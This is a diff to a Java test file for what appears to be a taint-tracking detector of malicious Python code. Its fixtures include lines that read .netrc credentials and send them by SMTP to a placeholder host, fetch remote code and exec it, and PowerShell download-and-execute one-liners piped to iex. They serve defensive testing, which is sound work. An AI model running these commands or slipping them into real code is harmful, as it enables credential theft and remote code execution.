@@ -118,6 +118,45 @@ class DataFlowTest {
     }
 
     @Test
+    void aFallbackInAnotherBranchDoesNotUndoWhatOneBranchRead() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import netrc, smtplib",
+                      "try:",
+                      "    hosts = netrc.netrc().hosts",
+                      "except FileNotFoundError:",
+                      "    hosts = {}",
+                      "smtplib.SMTP('m.example').sendmail('a', ['b'], str(hosts))")))
+          .contains(6);
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import requests",
+                      "code = requests.get('https://x.example').text",
+                      "if not code:",
+                      "    code = ''",
+                      "exec(code)")))
+          .contains(5);
+    }
+
+    @Test
+    void storingIntoAnItemKeepsWhatTheObjectHolds() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import smtplib",
+                      "from email.mime.text import MIMEText",
+                      "msg = MIMEText(open('/home/u/.netrc').read())",
+                      "msg['Subject'] = 'n'",
+                      "smtplib.SMTP('m.example').sendmail('a', ['b'], msg.as_string())")))
+          .contains(5);
+    }
+
+    @Test
     void forgetsWhatAFunctionTaintedWhenTheFunctionEnds() {
       assertThat(
               reached(
@@ -490,6 +529,35 @@ class DataFlowTest {
                       "print(HELP)",
                       "subprocess.run(['git', 'status'])")))
           .isEmpty(); // printed for the user, never run
+    }
+
+    @Test
+    void aPowerShellDownloadStartedOrPipedToIexIsAPipedDownload() {
+      for (String command :
+          List.of(
+              "(New-Object Net.WebClient).DownloadFile('https://a.example/u', $p); Start-Process $p",
+              "iex (New-Object Net.WebClient).DownloadString('https://a.example/u')",
+              "irm https://a.example/i.ps1 | iex",
+              "iwr https://a.example/u -OutFile $p; Start-Process $p")) {
+        assertThat(
+                reached(
+                    "runs-piped-download",
+                    lines(
+                        "import subprocess",
+                        "subprocess.Popen([",
+                        "    'powershell', '-Command',",
+                        "    \"" + command + "\",",
+                        "])")))
+            .as(command)
+            .contains(2);
+      }
+      assertThat(
+              reached(
+                  "runs-piped-download",
+                  lines(
+                      "import subprocess",
+                      "subprocess.run(['powershell', '-Command', 'Start-Process notepad'])")))
+          .isEmpty();
     }
   }
 
